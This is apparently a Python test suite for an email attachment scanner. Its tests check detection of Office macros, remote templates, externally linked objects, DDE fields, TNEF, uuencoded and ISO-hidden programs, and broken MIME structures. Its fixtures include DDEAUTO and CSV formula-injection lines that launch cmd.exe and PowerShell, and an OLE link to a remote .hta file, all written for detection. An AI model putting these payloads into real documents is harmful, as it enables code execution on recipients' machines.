"""Office files judged by content (macros under any name, remote templates, objects from outside, DDE), and
files that mail programs show as attachments although they are no MIME part of their own: inside Outlook's
winmail.dat, uuencoded in the text, inside ISO disk images, and behind a broken multipart structure."""

import binascii
import io
import struct
import time

import pycdlib

from klezguard.core import archives, office
from tests.mailfactory import auth, build, check, rules
from tests.rules.test_attachments import PDF, attach, attachment_rules, ole_with_macro, one, program, zip_of

DOCX = {
    "[Content_Types].xml": b"<?xml version='1.0'?><Types/>",
    "_rels/.rels": b"<Relationships/>",
    "word/document.xml": b"<w:document><w:body><w:p><w:r><w:t>Quote 2231</w:t></w:r></w:p></w:body></w:document>",
}
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
PROVEN = [("Authentication-Results", auth(domain="weber-bau.example"))]
QUIET_VBA = ole_with_macro('Sub FormatTable()\n  Range("A1").Bold = True\nEnd Sub\n', lure=False)


def docx(**extra: bytes) -> bytes:
    return zip_of({**DOCX, **extra})


def rels(*relationships: str) -> bytes:
    return ("<?xml version='1.0'?><Relationships xmlns='http://schemas.openxmlformats.org/package/2006/"
            "relationships'>" + "".join(relationships) + "</Relationships>").encode()


# --- macros by content --------------------------------------------------------------------------------


def test_docx_holding_a_vba_project_is_high_and_names_the_part():
    data = docx(**{"word/vbaProject.bin": QUIET_VBA})
    f = one(check(attach("Offer.docx", DOCX_TYPE, data)), "attachment.office_macro")
    assert f.severity == "high"
    assert ".docx, a type that never holds macros" in f.explanation
    assert f.evidence["Part"] == "word/vbaProject.bin"


def test_old_word_file_named_pdf_is_judged_by_content():
    f = one(check(attach("scan.pdf", "application/octet-stream", QUIET_VBA)), "attachment.office_macro")
    assert f.severity == "high" and ".pdf" in f.explanation


def test_plain_docx_is_quiet():
    assert attachment_rules(check(attach("Offer.docx", DOCX_TYPE, docx()))) == set()


def test_genuine_docm_from_outside_is_suspicious_even_when_the_sender_is_proven():
    data = docx(**{"word/vbaProject.bin": QUIET_VBA})
    raw = build(headers=PROVEN, attachments=[("Template.docm", "application/vnd.ms-word.document.macroEnabled.12",
                                              data)])
    result = check(raw)
    f = one(result, "attachment.office_macro")
    assert f.severity == "medium" and result.verdict == "suspicious"


# --- remote templates, objects from outside, DDE ------------------------------------------------------


def test_remote_template_on_the_internet_is_high_and_shows_the_address():
    settings = rels("<Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
                    "relationships/attachedTemplate' Target='https://203.0.113.9/t/inv.dotm' TargetMode='External'/>")
    data = docx(**{"word/_rels/settings.xml.rels": settings})
    f = one(check(attach("Invoice.docx", DOCX_TYPE, data)), "attachment.remote_template")
    assert f.severity == "high" and "https://203.0.113.9/t/inv.dotm" in f.explanation
    assert f.evidence["Template"] == ["https://203.0.113.9/t/inv.dotm"]
    assert f.evidence["Part"] == ["word/_rels/settings.xml.rels"]


def test_template_on_a_file_share_is_medium():
    settings = rels("<Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
                    "relationships/attachedTemplate' Target='file:///\\\\fs01\\templates\\Letter.dotx' "
                    "TargetMode='External'/>")
    f = one(check(attach("Letter.docx", DOCX_TYPE, docx(**{"word/_rels/settings.xml.rels": settings}))),
            "attachment.remote_template")
    assert f.severity == "medium" and "file share" in f.explanation


def test_local_template_and_web_hyperlinks_are_quiet():
    settings = rels("<Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
                    "relationships/attachedTemplate' Target='Normal.dotm'/>",
                    "<Relationship Id='rId2' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
                    "relationships/hyperlink' Target='https://weber-bau.example/' TargetMode='External'/>")
    assert attachment_rules(check(attach("Letter.docx", DOCX_TYPE, docx(**{"word/_rels/document.xml.rels": settings})))
                            ) == set()


def test_object_linked_from_the_internet_is_high():
    doc_rels = rels("<Relationship Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
                    "relationships/oleObject' Target='http://198.51.100.4/x.hta' TargetMode='External'/>")
    f = one(check(attach("Order.docx", DOCX_TYPE, docx(**{"word/_rels/document.xml.rels": doc_rels}))),
            "attachment.office_object")
    assert f.severity == "high" and "http://198.51.100.4/x.hta" in f.explanation


def test_embedded_equation_editor_object_is_high():
    equation = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500 + b"Equation.3\x00" + b"\x00" * 500
    f = one(check(attach("Quote.docx", DOCX_TYPE, docx(**{"word/embeddings/oleObject1.bin": equation}))),
            "attachment.office_object")
    assert f.severity == "high" and "Equation Editor" in f.explanation
    assert "word/embeddings/oleObject1.bin" in f.evidence["Part"]


def test_embedded_chart_is_quiet():
    chart = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500 + "Workbook".encode("utf-16-le") + b"\x00" * 500
    assert "attachment.office_object" not in rules(
        check(attach("Report.docx", DOCX_TYPE, docx(**{"word/embeddings/oleObject1.bin": chart}))))


def test_ddeauto_field_in_word_is_high():
    document = (b"<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>"
                b" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" </w:instrText></w:r></w:p>"
                b"</w:body></w:document>")
    f = one(check(attach("Notice.docx", DOCX_TYPE, docx(**{"word/document.xml": document}))),
            "attachment.office_dde")
    assert f.severity == "high" and "cmd.exe" in f.explanation and "as soon as the file opens" in f.explanation


def test_ordinary_fields_are_quiet():
    document = b"<w:document><w:body><w:p><w:fldSimple w:instr=' PAGE \\* MERGEFORMAT '/></w:p></w:body></w:document>"
    assert attachment_rules(check(attach("Notice.docx", DOCX_TYPE, docx(**{"word/document.xml": document})))) == set()


def test_dde_in_csv_and_rtf():
    csv = b"Name,Amount\nAnna,12\n=cmd|' /C powershell -nop -c calc'!A0,3\n"
    f = one(check(attach("prices.csv", "text/csv", csv)), "attachment.office_dde")
    assert "cmd" in f.explanation
    rtf = rb"{\rtf1{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe /k calc}{\fldrslt x}}}"
    one(check(attach("letter.rtf", "application/rtf", rtf)), "attachment.office_dde")
    assert attachment_rules(check(attach("prices.csv", "text/csv", b"Name,Amount\nAnna,=12+3\nBen,-4\n"))) == set()


# --- winmail.dat --------------------------------------------------------------------------------------


def _tnef_object(level: int, name: int, kind: int, data: bytes) -> bytes:
    return struct.pack("<BHHI", level, name, kind, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)


def tnef(files: dict[str, bytes], long_names: bool = False) -> bytes:
    """A minimal winmail.dat (TNEF): version, code page, and per file its title and data (and, optionally,
    a MAPI property list with the long file name, as Outlook writes it)."""
    out = archives.TNEF_SIGNATURE + b"\x01\x00"
    out += _tnef_object(1, 0x9006, 0x0008, struct.pack("<I", 0x00010000))
    out += _tnef_object(1, 0x9007, 0x0006, struct.pack("<II", 1252, 0))
    for name, data in files.items():
        out += _tnef_object(2, 0x9002, 0x0006, b"\x01\x00\xff\xff\xff\xff" + b"\x00" * 8)
        short = name if not long_names else "ATTACH~1.DAT"
        out += _tnef_object(2, 0x8010, 0x0001, short.encode() + b"\x00")
        out += _tnef_object(2, 0x800F, 0x0006, data)
        if long_names:
            value = name.encode() + b"\x00"
            prop = struct.pack("<HHII", 0x001E, 0x3707, 1, len(value)) + value + b"\x00" * (-len(value) % 4)
            out += _tnef_object(2, 0x9005, 0x0006, struct.pack("<I", 1) + prop)
    return out


def test_program_inside_winmail_dat_is_judged_like_an_attachment():
    result = check(attach("winmail.dat", "application/ms-tnef", tnef({"Invoice.pdf.exe": program()})))
    assert {"attachment.double_extension"} <= rules(result)
    f = one(result, "attachment.double_extension")
    assert f.severity == "high" and f.evidence["File"] == "winmail.dat › Invoice.pdf.exe"
    assert "Outlook" in f.evidence["Found in"]


def test_long_name_in_winmail_dat_is_the_one_judged():
    result = check(attach("winmail.dat", "application/ms-tnef", tnef({"Statement.js": b"var x = 1;\n"}, True)))
    assert one(result, "attachment.dangerous_type").title.startswith("Statement.js")


def test_macro_document_inside_winmail_dat():
    data = docx(**{"word/vbaProject.bin": QUIET_VBA})
    f = one(check(attach("winmail.dat", "application/ms-tnef", tnef({"Offer.docx": data}))), "attachment.office_macro")
    assert f.severity == "high"


def test_winmail_dat_with_a_pdf_is_quiet():
    assert attachment_rules(check(attach("winmail.dat", "application/ms-tnef", tnef({"Minutes.pdf": PDF})))) == set()


def test_hostile_tnef_counts_cost_nothing():
    start = time.monotonic()
    for count in (0xFFFFFFFF, 1):
        props = struct.pack("<I", count) + struct.pack("<HHI", 0x1002, 0x3701, 0xFFFFFFF0) + b"\x00" * 16
        data = (archives.TNEF_SIGNATURE + b"\x01\x00" + _tnef_object(2, 0x9002, 6, b"\x00" * 14)
                + _tnef_object(2, 0x9005, 6, props))
        check(attach("winmail.dat", "application/ms-tnef", data))
    assert time.monotonic() - start < 2


# --- uuencoded files in the text ----------------------------------------------------------------------


def uuencode(name: str, data: bytes) -> str:
    lines = [binascii.b2a_uu(data[i : i + 45]).decode().rstrip("\n") for i in range(0, len(data), 45)]
    return f"begin 644 {name}\n" + "\n".join(lines) + "\n`\nend\n"


def test_uuencoded_program_in_the_text_is_found():
    body = "Hi,\n\nthe tool you asked for:\n\n" + uuencode("tool.exe", program(600)) + "\nBye\n"
    result = check(build(body=body))
    f = one(result, "attachment.dangerous_type")
    assert f.severity == "high" and f.title.startswith("tool.exe")
    assert "uuencoded" in f.evidence["Found in"] and f.evidence["Content"] == "Windows program"


def test_uuencoded_program_under_a_harmless_name_is_a_disguise():
    result = check(build(body="See:\n" + uuencode("photo.jpg", program(300))))
    assert one(result, "attachment.disguised_type").severity == "high"


def test_text_that_only_mentions_begin_644_is_quiet():
    body = ("To send a file the old way, a line like\n\nbegin 644 setup.exe\nfollows with the data and ends with\n"
            "end\n\nNobody does this any more.\n")
    assert attachment_rules(check(build(body=body))) == set()


# --- ISO disk images ----------------------------------------------------------------------------------


def iso_of(files: dict[str, bytes]) -> bytes:
    iso = pycdlib.PyCdlib()
    iso.new(interchange_level=3, joliet=3)
    for i, (name, data) in enumerate(files.items()):
        iso.add_fp(io.BytesIO(data), len(data), f"/F{i}.;1", joliet_path="/" + name)
    out = io.BytesIO()
    iso.write_fp(out)
    iso.close()
    return out.getvalue()


LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 300


def test_iso_holding_a_shortcut_and_a_program_names_them():
    data = iso_of({"Invoice.lnk": LNK, "helper.dll": program(), "readme.txt": b"hello"})
    result = check(attach("Invoice_0925.iso", "application/octet-stream", data))
    image = one(result, "attachment.disk_image")
    assert image.severity == "high" and "Invoice.lnk" in image.explanation
    inside = one(result, "attachment.archive_program")
    assert inside.severity == "high" and "disk image Invoice_0925.iso" in inside.explanation
    assert "Invoice_0925.iso › Invoice.lnk" in inside.evidence["Risky files inside"]


def test_iso_holding_documents_is_still_a_disk_image_but_nothing_more():
    result = check(attach("Manual.iso", "application/x-iso9660-image", iso_of({"manual.pdf": PDF, "a.txt": b"x"})))
    assert attachment_rules(result) == {"attachment.disk_image"}
    assert one(result, "attachment.disk_image").evidence["Files inside"] == ["Manual.iso › manual.pdf",
                                                                             "Manual.iso › a.txt"]


def test_iso_listing_reads_udf_less_images_by_iso_names():
    iso = pycdlib.PyCdlib()
    iso.new(interchange_level=1)
    iso.add_fp(io.BytesIO(b"x"), 1, "/SETUP.EXE;1")
    out = io.BytesIO()
    iso.write_fp(out)
    listing = archives.list_iso(out.getvalue())
    assert [m.name for m in listing.members] == ["SETUP.EXE"] and not listing.error


# --- parts hidden by a broken structure ---------------------------------------------------------------


def broken_multipart(filename: str, payload: bytes, declared: str = 'boundary="outer-A"') -> bytes:
    """A multipart whose lines use a boundary other than the declared one: the stdlib (and some mail programs)
    see one block of text; others split it and show the attachment."""
    b64 = binascii.b2a_base64(payload).decode()
    return (
        "From: Anna Weber <anna@weber-bau.example>\r\nTo: owner@harbour-test.example\r\nSubject: Docs\r\n"
        "Date: Mon, 2 Nov 2026 09:59:00 +0000\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: multipart/mixed; {declared}\r\n\r\n"
        "--outer-B\r\nContent-Type: text/plain\r\n\r\nHi, see the file.\r\n"
        f"--outer-B\r\nContent-Type: application/octet-stream; name=\"{filename}\"\r\n"
        f"Content-Disposition: attachment; filename=\"{filename}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{b64}--outer-B--\r\n"
    ).encode()


def test_program_behind_a_wrong_boundary_is_found():
    result = check(broken_multipart("update.exe", program()))
    hidden = one(result, "attachment.hidden_part")
    assert hidden.severity == "medium" and "update.exe" in hidden.title
    assert hidden.evidence["Mail defects"]  # the parser's complaints, as evidence
    assert one(result, "attachment.dangerous_type").severity == "high"


def test_pdf_behind_a_missing_boundary_is_only_a_hint():
    result = check(broken_multipart("minutes.pdf", PDF, declared="charset=us-ascii"))
    assert one(result, "attachment.hidden_part").severity == "low"
    assert result.verdict == "clean"


def test_harmless_defects_are_not_findings():
    raw = attach("minutes.pdf", "application/pdf", PDF).replace(b"MIME-Version: 1.0\n", b"")
    raw = raw.replace(b"Content-Transfer-Encoding: base64", b"Content-Transfer-Encoding: base64\nContent-Transfer-"
                      b"Encoding: base64", 1)
    assert attachment_rules(check(raw)) == set()


def test_report_of_an_office_zip_under_another_name():
    data = docx(**{"word/vbaProject.bin": QUIET_VBA})
    assert office.analyse_ooxml_links(data).ooxml
    f = one(check(attach("photos.zip", "application/zip", data)), "attachment.office_macro")
    assert f.severity == "high"
